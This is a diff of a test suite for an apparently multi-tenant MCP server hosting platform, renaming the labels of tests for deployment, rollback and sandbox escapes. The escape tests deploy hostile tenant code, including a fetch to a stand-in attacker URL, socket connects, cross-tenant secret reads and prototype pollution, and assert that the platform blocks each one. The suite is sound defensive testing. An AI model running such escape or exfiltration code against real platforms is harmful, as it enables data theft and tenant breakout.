@@ -105,7 +105,7 @@ beforeAll(async () => {
 // --- deploy, versions, rollback ----------------------------------------------------------------
 
 describe("deploy", () => {
-  it("sandbox:deploy-serves-both-lanes — a deployed module is served with tools, resources and prompts on both lanes", async () => {
+  it("deployed:sandbox lanes:by-era — a deployed module is served with tools, resources and prompts on both lanes", async () => {
     const t = await provisionTenant({ prefix: "dep", servers: [] });
     const created = await deployOk(t.tenant, "units", converterSource);
     expect(created).toMatchObject({ server: "units", version: 1, status: "active", tools: ["convert", "list_units"], resources: ["units://table"] });
@@ -140,7 +140,7 @@ describe("deploy", () => {
     ]);
   });
 
-  it("sandbox:deploy-json-body — the module may come as JSON {module}; the same bytes again are not a new version", async () => {
+  it("deployed:deployments-api — the module may come as JSON {module}; the same bytes again are not a new version", async () => {
     const t = await provisionTenant({ prefix: "json", servers: [] });
     const res = await deploy(t.tenant, "units", JSON.stringify({ module: converterSource }), "application/json");
     expect(res.status).toBe(201);
@@ -149,14 +149,14 @@ describe("deploy", () => {
     expect((await adminOk("GET", `/tenants/${t.tenant}/servers/units/deployments`)).deployments).toHaveLength(1);
   });
 
-  it("sandbox:input-validated — arguments that fail the tool's JSON Schema are refused with -32602 before tenant code runs", async () => {
+  it("untrusted:messages — arguments that fail the tool's JSON Schema are refused with -32602 before tenant code runs", async () => {
     const session = await openSession(mcpUrl(good.tenant, "units"), good.key);
     const error = await rpcError(session, "convert", { value: "one", from: "km", to: "m" });
     expect(error.code).toBe(-32602);
     expect(error.message).toMatch(/Invalid arguments for tool convert/);
   });
 
-  it("sandbox:bad-bundles-refused — syntax errors, wrong exports, load-time throws and oversize modules get 400 and the running version keeps serving", async () => {
+  it("deployed:deployments-api — syntax errors, wrong exports, load-time throws and oversize modules get 400 and the running version keeps serving", async () => {
     const t = await provisionTenant({ prefix: "bad", servers: [] });
     await deployOk(t.tenant, "units", converterSource);
     const session = await openSession(mcpUrl(t.tenant, "units"), t.key);
@@ -185,7 +185,7 @@ describe("deploy", () => {
     expect(audit.entries.filter((e: any) => e.action === "deployment.refused")).toHaveLength(7);
   });
 
-  it("sandbox:rollback — versions are kept, listed and re-activated with one call", async () => {
+  it("deployed:deployments-api — versions are kept, listed and re-activated with one call", async () => {
     const t = await provisionTenant({ prefix: "roll", servers: [] });
     await deployOk(t.tenant, "svc", oneTool('return "v1 answer"'));
     const v2 = await deployOk(t.tenant, "svc", oneTool('return "v2 answer"'));
@@ -209,7 +209,7 @@ describe("deploy", () => {
     expect((await SELF.fetch(`${ORIGIN}/admin/v1/tenants/${t.tenant}/servers/svc/deployments/9/activate`, { method: "POST", headers: { Authorization: `Bearer ${ADMIN_TOKEN}` } })).status).toBe(404);
   });
 
-  it("sandbox:health-view — the server view shows version, status, error rate and the last errors", async () => {
+  it("deployed:deployments-api admin:servers — the server view shows version, status, error rate and the last errors", async () => {
     const t = await provisionTenant({ prefix: "health", servers: [] });
     await deployOk(t.tenant, "flaky", oneTool('if (args.fail) throw new Error("upstream said no"); return "fine"'));
     const session = await openSession(mcpUrl(t.tenant, "flaky"), t.key);
@@ -236,7 +236,7 @@ describe("escapes", () => {
     return openSession(mcpUrl(evil.tenant, server), evil.key);
   }
 
-  it("escape:platform-env — the sandbox sees only its own capability and names, no platform binding, secret or global", async () => {
+  it("deployed:sandbox — the sandbox sees only its own capability and names, no platform binding, secret or global", async () => {
     const session = await hostile(
       "snoop",
       oneTool(`
@@ -265,7 +265,7 @@ describe("escapes", () => {
     await neighbourStillWorks();
   });
 
-  it("escape:fetch-not-allowed — no allow-list means no network; an allow-list lets only its hosts through", async () => {
+  it("deployed:sandbox — no allow-list means no network; an allow-list lets only its hosts through", async () => {
     const session = await hostile("exfil", oneTool("const r = await fetch(args.url); return String(r.status);"));
     expect(await toolError(session, "run", { url: "https://attacker.example/steal" })).toMatch(/not permitted to access the internet/);
     expect(await toolError(session, "run", { url: `${ORIGIN}/admin/v1/tenants` })).toMatch(/not permitted to access the internet/);
@@ -296,7 +296,7 @@ describe("escapes", () => {
     await neighbourStillWorks();
   });
 
-  it("escape:sockets — connect() gets no socket without an allow-list, and a closed one with it: no byte leaves", async () => {
+  it("deployed:sandbox — connect() gets no socket without an allow-list, and a closed one with it: no byte leaves", async () => {
     const source = oneTool(
       `const s = connect(args.to);
        await s.opened;
@@ -313,7 +313,7 @@ describe("escapes", () => {
     await neighbourStillWorks();
   });
 
-  it("escape:other-tenant-storage — the store capability reaches only this tenant's and this server's data", async () => {
+  it("deployed:sandbox isolation:tenants — the store capability reaches only this tenant's and this server's data", async () => {
     // The neighbour runs the same module under the same server name, with a secret in it.
     const vault = oneTool(`
       if (args.put) { await ctx.store.put("secrets", args.put, { secret: args.put }); return "stored"; }
@@ -342,7 +342,7 @@ describe("escapes", () => {
     await neighbourStillWorks();
   });
 
-  it("escape:hang — a handler that never settles ends that request with a JSON-RPC error", async () => {
+  it("untrusted:messages — a handler that never settles ends that request with a JSON-RPC error", async () => {
     const session = await hostile("hang", oneTool("await new Promise(() => {});"));
     const error = await rpcError(session, "run");
     expect(error.code).toBe(-32603);
@@ -350,7 +350,7 @@ describe("escapes", () => {
     await neighbourStillWorks();
   });
 
-  it("escape:prototype-pollution — polluting the sandbox's built-ins and returning __proto__ keys touches nothing outside it", async () => {
+  it("deployed:sandbox — polluting the sandbox's built-ins and returning __proto__ keys touches nothing outside it", async () => {
     const session = await hostile(
       "pollute",
       oneTool(`
@@ -370,7 +370,7 @@ describe("escapes", () => {
     await neighbourStillWorks();
   });
 
-  it("escape:huge-result — a tool answering 50 MB gets a JSON-RPC error, nothing of it is kept", async () => {
+  it("untrusted:messages — a tool answering 50 MB gets a JSON-RPC error, nothing of it is kept", async () => {
     const session = await hostile("huge", oneTool('return "x".repeat(50 * 1024 * 1024);'));
     const error = await rpcError(session, "run");
     expect(error.code).toBe(-32603);
@@ -380,7 +380,7 @@ describe("escapes", () => {
     await neighbourStillWorks();
   });
 
-  it("escape:forged-result — a result that is not a valid MCP result is a JSON-RPC error, not passed on", async () => {
+  it("untrusted:messages — a result that is not a valid MCP result is a JSON-RPC error, not passed on", async () => {
     const session = await hostile("forge", oneTool('return { content: [{ type: "evil", text: 1 }] };'));
     const error = await rpcError(session, "run");
     expect(error.message).toMatch(/not a valid MCP result/);
@@ -401,7 +401,7 @@ async function admin400(path: string, body: unknown): Promise<any> {
 }
 
 describe("examples", () => {
-  it("sandbox:bookmarks-example — the storage example deploys; its upstream is reachable only once allow-listed", async () => {
+  it("deployed:sandbox — the storage example deploys; its upstream is reachable only once allow-listed", async () => {
     const t = await provisionTenant({ prefix: "bm", servers: [] });
     const created = await deployOk(t.tenant, "bookmarks", bookmarksSource);
     expect(created.tools).toEqual(["save_bookmark", "list_bookmarks", "search_bookmarks", "delete_bookmark"]);
